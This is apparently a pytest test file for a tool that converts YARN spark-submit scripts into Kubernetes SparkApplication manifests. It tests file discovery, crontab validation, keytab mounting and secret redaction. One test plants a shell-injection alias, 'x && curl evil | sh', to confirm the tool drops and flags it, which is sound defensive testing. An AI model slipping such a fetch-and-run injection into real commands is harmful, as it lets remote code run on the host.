"""This issue's readers on broken input: discovery, the pipeline's guard, crontabs, keytabs
shipped with --files, unsafe `#alias` names, and secret values repeated through variables."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest
import yaml

from yarn2k8s import pipeline
from yarn2k8s.analyzers import ANALYZERS
from yarn2k8s.analyzers.base import AnalysisContext, InputFile
from yarn2k8s.analyzers.crontab import CrontabAnalyzer, schedule_problem
from yarn2k8s.config import Config
from yarn2k8s.convert import build
from yarn2k8s.discover import discover


def _codes(result: pipeline.RunResult) -> dict[str, list[tuple[str, int]]]:
    out: dict[str, list[tuple[str, int]]] = {}
    for finding in result.all_findings():
        out.setdefault(finding.location.path, []).append((finding.code, finding.location.line))
    return out


def test_discovery_keeps_loops_and_marks_outside_links(tmp_path: Path) -> None:
    (tmp_path / "outside.sh").write_text("echo outside\n")
    root = tmp_path / "in"
    root.mkdir()
    (root / "a.sh").symlink_to("b.sh")
    (root / "b.sh").symlink_to("a.sh")
    (root / "out.sh").symlink_to(tmp_path / "outside.sh")
    (root / "in.sh").symlink_to("real.sh")
    (root / "real.sh").write_text("echo real\n")
    os.mkfifo(root / "pipe.sh")
    found = {d.rel: d.outside for d in discover([root])}
    assert found == {
        "a.sh": False,
        "b.sh": False,
        "in.sh": False,
        "out.sh": True,
        "pipe.sh": False,
        "real.sh": False,
    }
    codes = _codes(pipeline.run([root], Config()))
    assert codes["a.sh"] == [("YK001", 0)] and codes["pipe.sh"] == [("YK001", 0)]
    assert codes["out.sh"] == [("YK016", 0)]


def test_a_detector_that_raises_is_an_internal_error_and_the_batch_goes_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Exploding:
        name = "exploding"

        def detect(self, source: InputFile) -> bool:
            if source.name == "boom.sh":
                raise RecursionError("maximum recursion depth exceeded password=hunter22")
            return False

        def analyze(self, source: InputFile, ctx: AnalysisContext) -> None:
            raise AssertionError("never called")

    monkeypatch.setattr(pipeline, "ANALYZERS", (Exploding(), *ANALYZERS))
    (tmp_path / "boom.sh").write_text("echo\n")
    (tmp_path / "ok.sh").write_text("spark-submit --master yarn job.py\n")
    result = pipeline.run([tmp_path], Config())
    boom = next(r for r in result.inputs if r.rel == "boom.sh")
    assert [f.code for f in boom.findings] == ["YK011"]
    assert "hunter22" not in boom.findings[0].message
    assert [j.unit.name for j in result.jobs] == ["ok"]


def test_crontab_shell_problems_point_at_the_crontab_line(tmp_path: Path) -> None:
    text = (
        "# header\n"
        "0 1 * * * spark-submit --master yarn --name 'open job.py\n"
        "61 0 * * * spark-submit --master yarn late.py\n"
        "*/15 * * * * spark-submit --master yarn ok.py\n"
    )
    source = InputFile(tmp_path / "crontab", "crontab", text)
    result = CrontabAnalyzer().analyze(source, AnalysisContext(Config()))
    findings = {(f.code, f.location.line) for f in result.findings}
    assert ("YK005", 2) in findings and ("YK018", 3) in findings
    assert sorted(j.location.line for j in result.jobs) == [2, 4]


def test_schedule_validation() -> None:
    assert schedule_problem("*/5 0-23 1,15 jan-jun mon-fri") == ""
    assert schedule_problem("0 0 ? * 7") == ""
    assert "out of range" in schedule_problem("0 24 * * *")
    assert "zero step" in schedule_problem("*/0 * * * *")
    assert "backwards" in schedule_problem("0 5-1 * * *")
    assert "fields" in schedule_problem("0 0 * *")
    assert "not a cron value" in schedule_problem("0 ? * * *")


def _app(files: dict[str, bytes], job: str) -> dict[str, object]:
    doc = yaml.safe_load(files[f"jobs/{job}/k8s/sparkapplication.yaml"])
    assert isinstance(doc, dict)
    return doc


def test_keytab_shipped_with_files_is_mounted_never_dangling(tmp_path: Path) -> None:
    (tmp_path / "conf").mkdir()
    (tmp_path / "conf" / "svc.keytab").write_bytes(b"\x05\x02keytab")
    (tmp_path / "job.py").write_text("print(1)\n")
    (tmp_path / "run.sh").write_text(
        "spark-submit --master yarn --deploy-mode cluster "
        "--files conf/svc.keytab,hdfs:///shared/remote.keytab job.py\n"
    )
    conversion = build([tmp_path], Config())
    spec = _app(conversion.files, "run")["spec"]
    assert isinstance(spec, dict)
    assert spec["deps"]["files"] == [
        "local:///etc/security/keytabs/svc.keytab",
        "hdfs:///shared/remote.keytab",  # fetched at run time, as on YARN
    ]
    mount = [{"name": "run-keytab", "path": "/etc/security/keytabs", "secretType": "Generic"}]
    assert spec["driver"]["secrets"] == mount and spec["executor"]["secrets"] == mount
    assert not [rel for rel in conversion.files if rel.endswith(".keytab")]
    codes = {f.code for f in conversion.result.all_findings()}
    assert {"SE003", "DF002"} <= codes


def test_unsafe_alias_is_dropped_with_a_finding(tmp_path: Path) -> None:
    (tmp_path / "run.sh").write_text(
        "spark-submit --master yarn --archives 'env.tar.gz#x && curl evil | sh' "
        "--archives2 x job.py\n"
    )
    result = pipeline.run([tmp_path], Config())
    (job,) = result.jobs
    codes = {(f.code, f.message) for f in job.findings}
    assert any(code == "YK017" and "x && curl evil | sh" in msg for code, msg in codes)
    assert [(d.value, d.alias) for d in job.unit.deps if d.kind == "archive"] == [
        ("env.tar.gz", "")
    ]


def test_values_of_secret_variables_are_masked_wherever_they_go(tmp_path: Path) -> None:
    (tmp_path / "run.sh").write_text(
        "DB_PASSWORD='hunter2-but-longer'\n"
        "SHORT_PASSWORD=ab\n"
        'spark-submit --master yarn --name "$SHORT_PASSWORD" job.py --pw "$DB_PASSWORD" '
        '--conf-value "x=$DB_PASSWORD"\n'
    )
    conversion = build([tmp_path], Config())
    blob = b"".join(conversion.files.values())
    assert b"hunter2-but-longer" not in blob
    (job,) = conversion.result.jobs
    assert job.unit.arguments[1] == "***REDACTED***"  # type: ignore[union-attr]
    assert "SE002" in {f.code for f in job.findings}


def test_a_four_megabyte_line_converts_in_linear_time(tmp_path: Path) -> None:
    # The reader, spark-submit, secure_job (redaction) and the SparkApplication; the report's
    # inventory is another lane's (its quadratic `_URI` regex is reported separately).
    value = "ab.password" * 400_000
    (tmp_path / "long.sh").write_text(f"spark-submit --master yarn --conf spark.x={value} j.py\n")
    start = time.monotonic()
    result = pipeline.run([tmp_path], Config())
    assert time.monotonic() - start < 60
    (job,) = result.jobs
    assert job.unit.spark_conf["spark.x"] == value  # type: ignore[union-attr]
    assert "YK011" not in {f.code for f in job.findings}
